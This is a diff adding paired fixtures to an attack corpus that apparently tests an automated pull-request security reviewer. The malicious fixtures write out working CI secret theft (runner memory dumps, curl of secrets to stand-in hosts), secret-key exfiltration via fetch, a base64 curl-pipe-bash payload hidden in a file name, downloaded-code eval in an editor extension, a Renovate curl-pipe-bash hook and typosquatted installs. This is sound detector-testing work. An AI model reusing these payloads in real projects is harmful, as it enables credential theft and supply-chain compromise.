@@ -11,6 +11,35 @@ import { ciWorkflow } from './ci.js';
 const INDEX_BASE = lines("'use strict';", '', "const supportsColor = require('./supports-color');", '', 'module.exports = function tint(text, code) {', '  return supportsColor ? `\\u001b[${code}m${text}\\u001b[0m` : text;', '};');
 
 const EXTENSION_BASE = lines("'use strict';", "const vscode = require('vscode');", '', 'function activate(context) {', "  context.subscriptions.push(vscode.commands.registerCommand('tidy.run', () => vscode.commands.executeCommand('editor.action.formatDocument')));", '}', '', 'module.exports = { activate };');
+/** A module that compiles its row template once with new Function (the template a constant). */
+function rowsModule(template: string): string {
+  return lines("'use strict';", '', `const ROW_TEMPLATE = ${template};`, '', 'const renderRow = new Function(\'cells\', ROW_TEMPLATE);', '', 'module.exports = { renderRow };');
+}
+/** A Docker action's entrypoint.sh; `extra` lines go before the scan. */
+function entrypoint(extra: string[]): string {
+  return lines('#!/usr/bin/env bash', 'set -euo pipefail', ...extra, 'exec scanner --format sarif --output "${INPUT_OUTPUT:-results.sarif}" "${INPUT_PATH:-.}"');
+}
+/** A wallet library's Keypair class; `inFrom` lines go into fromSecretKey, `after` lines after the class. */
+function keypairModule(inFrom: string[], after: string[]): string {
+  return lines(
+    "import { publicKeyOf } from './ed25519';",
+    '',
+    'export class Keypair {',
+    '  private constructor(readonly secretKey: Uint8Array) {}',
+    '',
+    '  static fromSecretKey(secretKey: Uint8Array): Keypair {',
+    "    if (secretKey.length !== 64) throw new Error('bad secret key size');",
+    ...inFrom,
+    '    return new Keypair(secretKey);',
+    '  }',
+    '}',
+    ...after,
+  );
+}
+/** renovate.json with post-upgrade commands (none: without postUpgradeTasks). */
+function renovateJson(commands: string[] | null): string {
+  return `${JSON.stringify({ $schema: 'https://docs.renovatebot.com/renovate-schema.json', extends: ['config:recommended'], ...(commands === null ? {} : { postUpgradeTasks: { commands, fileFilters: ['**/*'], executionMode: 'branch' } }) }, null, 2)}\n`;
+}
 /** subprojects/zlib.wrap as wrapdb writes it, with its upstream source URL and checksum. */
 function zlibWrap(sourceUrl: string, hash: string): string {
   return lines(
@@ -944,5 +973,311 @@ export const ATTACK_CASES: CorpusEntry[] = [
         files: [{ path: 'CMakeLists.txt', base: landlockCmake([]), head: landlockCmake(['        (void)LANDLOCK_ACCESS_FS_REFER;']) }],
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:security-probe-broken'] },
+  },
+  {
+    id: 'attack-runner-memory-dump',
+    description:
+      'The tj-actions/changed-files and reviewdog compromises (March 2025) read the memory of the runner process (Runner.Worker), where every secret of the job is kept unmasked, picked out the "isSecret":true entries and printed them double base64. Here a "diagnose the flaky runner" PR adds such a step to CI.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7136,
+        title: 'ci: diagnose flaky runner',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Runner diagnostics', '        run: |', '          WORKER=$(pgrep -f Runner.Worker)', '          sudo gcore -o /tmp/runner "$WORKER" > /dev/null', '          strings /tmp/runner.* | grep -m 20 -i timeout || true'] }),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-runner-diagnostics-ordinary',
+    description: "A maintainer's CI keeps a core dump of the test server when it crashes, and prints the runner's memory figures and the sorted environment.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7137,
+        title: 'ci: keep a core dump when the server test crashes',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Crash dump', '        if: failure()', '        run: |', '          free -m && cat /proc/meminfo | head -5', '          printenv | sort', '          gcore -o crash/server $(pgrep -f test-server) || true'] }),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-constant-run-as-code',
+    description:
+      'A "typo fix" that edits only a string constant: the line that hands it to new Function is unchanged, so the sink is not in the change; the new text loads child_process (the payload rides in a string edit, as small malicious commits dressed as fixes do).',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7138,
+        title: 'Fix typo in row template',
+        author: 'newcomer',
+        files: [{ path: 'src/rows.js', base: rowsModule("'return cells.map((c) => String(c)).join(\" | \");'"), head: rowsModule("'require(\"child_process\").exec(\"node -e \" + process.env.npm_config_hook); return cells.map((c) => String(c)).join(\" | \");'") }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
+  },
+  {
+    id: 'attack-constant-run-as-code-ordinary',
+    description: 'A maintainer fixes the separator in the same compiled row template: the new text is still plain code over its argument.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7139,
+        title: 'Fix separator in row template',
+        files: [{ path: 'src/rows.js', base: rowsModule("'return cells.map((c) => String(c)).join(\" | \");'"), head: rowsModule("'return cells.map((c) => String(c)).join(\" \\u2502 \");'") }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
+  },
+  {
+    id: 'attack-anonymous-secret-to-stats-host',
+    description:
+      'GhostAction (GitGuardian, September 2025) with a secret of no particular service: a "report build stats" step posts the repository\'s API_TOKEN and DEPLOY_KEY in a request body to a host that is no service\'s and not the project\'s.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7140,
+        title: 'ci: report build stats',
+        author: 'newcomer',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: ['      - name: Build stats', '        run: curl -s -X POST https://collect.buildmetrics-cdn.net/v1/run -d "id=$GITHUB_RUN_ID&k=${{ secrets.API_TOKEN }}" --data-urlencode "d=$DK"', '        env:', '          DK: ${{ secrets.DEPLOY_KEY }}'] }),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['gha-secrets-exfiltration'], drivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-anonymous-secret-to-own-host',
+    description: "A maintainer posts the API token to the project's own release server (named after the organization), purges a CDN through its deploy hook's URL, and notifies through Pushover with secrets named for it.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7141,
+        title: 'ci: announce releases',
+        files: [
+          {
+            path: '.github/workflows/ci.yml',
+            base: ciWorkflow(),
+            head: ciWorkflow({ extraStep: [
+              '      - name: Register release',
+              '        run: curl -fsS -X POST https://releases.acme-tools.dev/api/register -d "version=${GITHUB_REF_NAME}&token=${{ secrets.API_TOKEN }}"',
+              '      - name: Purge CDN',
+              '        run: curl -fsS -X POST "https://hooks.fastcdn.example/purge?key=${{ secrets.DEPLOY_KEY }}"',
+              '      - name: Notify',
+              '        run: curl -s -F "token=${{ secrets.PUSHOVER_TOKEN }}" -F "user=${{ secrets.PUSHOVER_USER }}" -F "message=tint released" https://api.pushover.net/1/messages.json',
+            ] }),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
+  },
+  {
+    id: 'attack-action-entrypoint-reads-runner-memory',
+    description:
+      "The tj-actions/changed-files and reviewdog compromises (March 2025) changed an action's own code to read the runner's memory and print its secrets double base64; here a \"quoting fix\" to a Docker action's entrypoint.sh does it.",
+    fixture: () =>
+      attackPr({
+        repo: 'scan-action',
+        number: 7142,
+        title: 'fix: quote arguments in entrypoint',
+        author: 'newcomer',
+        files: [{ path: 'entrypoint.sh', base: entrypoint([]), head: entrypoint(['if [ "$(uname)" = Linux ]; then', '  for p in $(pgrep -f Runner.Worker); do sudo dd if="/proc/$p/mem" bs=1M 2>/dev/null | tr -d "\\0" | grep -aoE "[^\\"]{1,40}\\":\\{[^}]{1,300}\\}" | base64 -w0 | base64 -w0; done', 'fi']) }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['credential-store-read'] },
+  },
+  {
+    id: 'attack-action-entrypoint-memory-stats',
+    description: "A maintainer makes the same action print the runner's memory figures and its own process status when a scan runs out of memory.",
+    fixture: () =>
+      attackPr({
+        repo: 'scan-action',
+        number: 7143,
+        title: 'fix: report memory when the scan is killed',
+        files: [{ path: 'entrypoint.sh', base: entrypoint([]), head: entrypoint(['trap \'echo "::warning::scan exited $?"; grep -E "MemTotal|MemAvailable" /proc/meminfo; cat /proc/$$/status | grep -i vm\' EXIT']) }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:credential-store-read'] },
+  },
+  {
+    id: 'attack-keypair-sends-secret-key',
+    description:
+      '@solana/web3.js 1.95.6/1.95.7 (December 2024): an added addToQueue() sent every key loaded through Keypair.fromSecretKey to a look-alike RPC host in a request header. Here a "perf" PR to a wallet library does the same.',
+    fixture: () =>
+      attackPr({
+        repo: 'keyring-js',
+        number: 7144,
+        title: 'perf: cache decoded keys',
+        author: 'newcomer',
+        files: [{ path: 'src/keypair.ts', base: keypairModule([], []), head: keypairModule(['    queueKey(Buffer.from(secretKey).toString(\'hex\'));'], ['', 'function queueKey(k: string): void {', "  fetch('https://rpc-cache.keyring-node.example/api/queue', { method: 'POST', headers: { 'x-cache-id': k } }).catch(() => undefined);", '}']) }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['secret-harvesting'] },
+  },
+  {
+    id: 'attack-keypair-reports-public-key',
+    description: "A maintainer adds opt-in registration of a new key's public half with the project's faucet.",
+    fixture: () =>
+      attackPr({
+        repo: 'keyring-js',
+        number: 7145,
+        title: 'feat: register new keys with the devnet faucet',
+        files: [{ path: 'src/keypair.ts', base: keypairModule([], []), head: keypairModule(['    if (process.env.KEYRING_FAUCET === \'1\') registerKey(publicKeyOf(secretKey));'], ['', 'function registerKey(publicKey: string): void {', "  fetch('https://faucet.keyring-js.example/api/register', { method: 'POST', body: JSON.stringify({ publicKey }) }).catch(() => undefined);", '}']) }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:secret-harvesting'] },
+  },
+  {
+    id: 'attack-action-posts-environment',
+    description:
+      'The trivy-action compromise (March 2026) ran a "sysmon" script in the action that gathered the CI environment and posted it to the attackers\' host. Here a PR to a scanning action adds a helper that opens a request and writes JSON.stringify(process.env) into it.',
+    fixture: () =>
+      attackPr({
+        repo: 'scan-action',
+        number: 7146,
+        title: 'feat: send scan timings',
+        author: 'newcomer',
+        files: [{ path: 'src/timings.js', head: lines("'use strict';", "const https = require('https');", '', 'module.exports = function sendTimings(ms) {', "  const req = https.request({ hostname: 'timings.scanner-metrics.example', path: '/v1/run', method: 'POST', headers: { 'content-type': 'application/json' } });", "  req.on('error', () => undefined);", '  req.end(JSON.stringify({ ms, env: process.env }));', '};') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
+  {
+    id: 'attack-action-posts-timings',
+    description: "A maintainer's scanning action posts its timings with the runner's OS and the CI flag (named variables), and runs the scanner with the environment handed on.",
+    fixture: () =>
+      attackPr({
+        repo: 'scan-action',
+        number: 7147,
+        title: 'feat: send scan timings',
+        files: [{ path: 'src/timings.js', head: lines("'use strict';", "const https = require('https');", "const { spawnSync } = require('child_process');", '', 'module.exports = function sendTimings(ms) {', "  spawnSync('scanner', ['--version'], { env: { ...process.env, NO_COLOR: '1' } });", "  const req = https.request({ hostname: 'timings.scan-action.example', path: '/v1/run', method: 'POST', headers: { 'content-type': 'application/json' } });", "  req.on('error', () => undefined);", '  req.end(JSON.stringify({ ms, os: process.env.RUNNER_OS, ci: process.env.CI === \'true\' }));', '};') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:suspicious-network-endpoint'] },
+  },
+  {
+    id: 'attack-file-name-payload',
+    description:
+      'The hackerbot-claw pull requests (February 2026) hid base64 shell payloads in the names of the files they changed, for workflows that paste the list of changed files into a script. Here a "docs: add page" PR adds such a file.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7148,
+        title: 'docs: add troubleshooting page',
+        author: 'newcomer',
+        files: [{ path: 'docs/troubleshooting-$(echo${IFS}Y3VybCAtc1NmTCBodHRwczovL2NsYXctZHJvcC5leGFtcGxlL3AgfCBiYXNo|base64${IFS}-d|bash).md', head: lines('# Troubleshooting', '', 'Run `npm ci` again.') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['pr-metadata-shell-payload'] },
+  },
+  {
+    id: 'attack-file-name-route-parameters',
+    description: 'A maintainer adds routes to a Remix-style app: file names with $ parameters, a route group in parentheses and a Q&A page.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7149,
+        title: 'feat: post pages',
+        files: [
+          { path: 'app/routes/posts.$postId.tsx', head: lines("import { useParams } from '@remix-run/react';", '', 'export default function Post() {', '  const { postId } = useParams();', '  return <h1>{postId}</h1>;', '}') },
+          { path: 'app/(marketing)/q&a/page.tsx', head: lines('export default function Page() {', '  return <h1>Questions</h1>;', '}') },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:pr-metadata-shell-payload'] },
+  },
+  {
+    id: 'attack-extension-evals-memo-download',
+    description:
+      'GlassWorm (Koi Security, October 2025 and after): the extension looked up a Solana wallet\'s latest transaction, decoded a URL from its memo, fetched that URL and ran the text. Here a "telemetry" PR to an editor extension does it.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-format',
+        number: 7150,
+        title: 'feat: anonymous usage telemetry',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'extension.js',
+            base: EXTENSION_BASE,
+            head: lines("'use strict';", "const vscode = require('vscode');", "const { Connection, PublicKey } = require('@solana/web3.js');", '', 'async function beacon() {', "  const conn = new Connection('https://api.mainnet-beta.solana.com');", "  const [last] = await conn.getSignaturesForAddress(new PublicKey('7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU'), { limit: 1 });", "  const target = Buffer.from(String(last.memo).split(' ').pop(), 'base64').toString();", '  const body = await (await fetch(target)).text();', '  eval(body);', '}', '', 'function activate(context) {', '  beacon().catch(() => undefined);', "  context.subscriptions.push(vscode.commands.registerCommand('tidy.run', () => vscode.commands.executeCommand('editor.action.formatDocument')));", '}', '', 'module.exports = { activate };'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['dynamic-code-execution'] },
+  },
+  {
+    id: 'attack-extension-shows-changelog',
+    description: "A maintainer's extension fetches the release notes' text and shows it in a webview after an update.",
+    fixture: () =>
+      attackPr({
+        repo: 'tidy-format',
+        number: 7151,
+        title: 'feat: show release notes after an update',
+        files: [
+          {
+            path: 'extension.js',
+            base: EXTENSION_BASE,
+            head: lines("'use strict';", "const vscode = require('vscode');", '', 'async function showNotes(version) {', '  const notesUrl = `https://tidy-format.example/notes/${version}.md`;', '  const text = await (await fetch(notesUrl)).text();', "  const panel = vscode.window.createWebviewPanel('tidyNotes', 'Tidy ' + version, vscode.ViewColumn.One, {});", '  panel.webview.html = `<pre>${text.replace(/</g, \'&lt;\')}</pre>`;', '}', '', 'function activate(context) {', "  showNotes(context.extension.packageJSON.version).catch(() => undefined);", "  context.subscriptions.push(vscode.commands.registerCommand('tidy.run', () => vscode.commands.executeCommand('editor.action.formatDocument')));", '}', '', 'module.exports = { activate };'),
+          },
+        ],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:dynamic-code-execution'] },
+  },
+  {
+    id: 'attack-renovate-post-upgrade-pipe',
+    description:
+      'Automation files as the way in: a "renovate: regenerate lockfiles" PR makes Renovate run a downloaded script after every upgrade, in its own environment with its token, and commit what it produces.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7152,
+        title: 'chore(renovate): regenerate lockfiles after upgrades',
+        author: 'newcomer',
+        files: [{ path: 'renovate.json', base: renovateJson(null), head: renovateJson(['curl -fsSL https://lockfile-tools.example/regen.sh | bash']) }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['renovate-post-upgrade-command'] },
+  },
+  {
+    id: 'attack-renovate-post-upgrade-generate',
+    description: 'A maintainer makes Renovate regenerate the API client after upgrades with the project\'s own npm script.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7153,
+        title: 'chore(renovate): regenerate the client after upgrades',
+        files: [{ path: 'renovate.json', base: renovateJson(null), head: renovateJson(['npm ci --ignore-scripts', 'npm run generate:client']) }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'] },
+  },
+  {
+    id: 'attack-workflow-runs-lookalike-tool',
+    description:
+      'Look-alike packages reach CI without any manifest: a "ci: check formatting" PR runs a misspelled formatter with npx -y and installs a misspelled HTTP library with pip, in a job that holds the npm token.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7154,
+        title: 'ci: check formatting',
+        author: 'newcomer',
+        files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ extraStep: ['      - name: Format', '        run: npx -y prettierr@3 --check . && python3 -m pip install -q reqeusts', '        env:', '          NODE_AUTH_TOKEN: ${{ secrets.NPM_TOKEN }}'] }) }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
+  },
+  {
+    id: 'attack-workflow-runs-popular-tools',
+    description: 'A maintainer adds a formatting check and a docs build that run the popular tools by name.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint',
+        number: 7155,
+        title: 'ci: check formatting and build the docs',
+        files: [{ path: '.github/workflows/ci.yml', base: ciWorkflow(), head: ciWorkflow({ extraStep: ['      - name: Format', '        run: npx -y prettier@3 --check .', '      - name: Docs', '        run: |', '          python3 -m pip install -q -r docs/requirements.txt mkdocs-material', '          pipx run mkdocs build --strict'] }) }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:typosquat'] },
   },
 ];
